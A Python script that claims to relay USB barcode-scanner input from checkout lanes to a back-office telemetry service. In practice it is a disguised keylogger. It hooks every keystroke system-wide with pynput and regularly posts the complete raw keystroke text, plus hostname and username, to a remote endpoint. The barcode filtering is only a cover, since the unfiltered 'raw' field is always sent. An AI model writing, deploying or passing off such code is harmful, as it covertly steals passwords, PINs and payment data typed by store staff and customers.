#!/usr/bin/env python3
"""Wedge-scanner relay for checkout lanes.

Most lane scanners are configured as USB keyboard wedges, so a scan lands in
whatever window happens to have focus.  When the POS front-end loses focus
(pop-ups, manager overrides, the card terminal dialog) scans get dropped and
stock movement goes unrecorded.  This relay listens to the keyboard stream,
groups keystrokes into frames and forwards them to the lane telemetry service,
where the back office matches them against the POS journal.
"""

import argparse
import getpass
import http.client
import json
import logging
import os
import socket
import threading
import time
from urllib.parse import urlparse

from pynput import keyboard

log = logging.getLogger("wedge-relay")

DEFAULT_ENDPOINT = "https://lane-telemetry.northwind-retail.example/v2/frames"
SPECIAL_KEYS = {
    "enter": "\n",
    "space": " ",
    "tab": "\t",
    "backspace": "\b",
}


class FrameBuffer:
    """Collects key events between flushes."""

    def __init__(self):
        self._chars = []
        self._lock = threading.Lock()
        self.last_event = time.monotonic()

    def feed(self, key):
        ch = getattr(key, "char", None)
        if ch is None:
            name = getattr(key, "name", None) or str(key)
            ch = SPECIAL_KEYS.get(name, "<%s>" % name)
        with self._lock:
            self._chars.append(ch)
            self.last_event = time.monotonic()

    def drain(self):
        with self._lock:
            data = "".join(self._chars)
            self._chars.clear()
        return data


def looks_like_barcode(line):
    line = line.strip()
    return line.isdigit() and len(line) in (8, 12, 13, 14)


class TelemetryClient:
    def __init__(self, endpoint, token, timeout=10):
        parsed = urlparse(endpoint)
        self.host = parsed.hostname
        self.port = parsed.port or 443
        self.path = parsed.path or "/"
        self.token = token
        self.timeout = timeout

    def send(self, payload):
        body = json.dumps(payload).encode("utf-8")
        conn = http.client.HTTPSConnection(self.host, self.port, timeout=self.timeout)
        try:
            conn.request("POST", self.path, body=body, headers={
                "Content-Type": "application/json",
                "X-Lane-Token": self.token,
            })
            resp = conn.getresponse()
            resp.read()
            return 200 <= resp.status < 300
        finally:
            conn.close()


def build_frame(raw, lane_id):
    lines = raw.split("\n")
    return {
        "lane": lane_id,
        "host": socket.gethostname(),
        "operator": getpass.getuser(),
        "ts": time.time(),
        "barcodes": [l.strip() for l in lines if looks_like_barcode(l)],
        "raw": raw,
    }


def flush_loop(buf, client, lane_id, interval, stop):
    backlog = []
    while not stop.is_set():
        stop.wait(interval)
        raw = buf.drain()
        if raw:
            backlog.append(build_frame(raw, lane_id))
        if not backlog:
            continue
        for attempt in range(3):
            try:
                if client.send({"frames": backlog}):
                    log.debug("forwarded %d frame(s)", len(backlog))
                    backlog = []
                    break
            except (OSError, http.client.HTTPException) as exc:
                log.warning("telemetry post failed (%s), attempt %d", exc, attempt + 1)
                time.sleep(2 ** attempt)
        if len(backlog) > 500:
            backlog = backlog[-500:]


def main():
    parser = argparse.ArgumentParser(description="Forward wedge-scanner frames to lane telemetry")
    parser.add_argument("--endpoint", default=os.environ.get("LANE_TELEMETRY_URL", DEFAULT_ENDPOINT))
    parser.add_argument("--lane", default=os.environ.get("LANE_ID", "lane-01"))
    parser.add_argument("--interval", type=float, default=15.0)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    token = os.environ.get("LANE_TELEMETRY_TOKEN", "")
    client = TelemetryClient(args.endpoint, token)
    buf = FrameBuffer()
    stop = threading.Event()

    worker = threading.Thread(target=flush_loop,
                              args=(buf, client, args.lane, args.interval, stop),
                              daemon=True)
    worker.start()

    log.info("relay running for %s -> %s", args.lane, args.endpoint)
    with keyboard.Listener(on_press=buf.feed) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()
    worker.join(timeout=5)


if __name__ == "__main__":
    main()
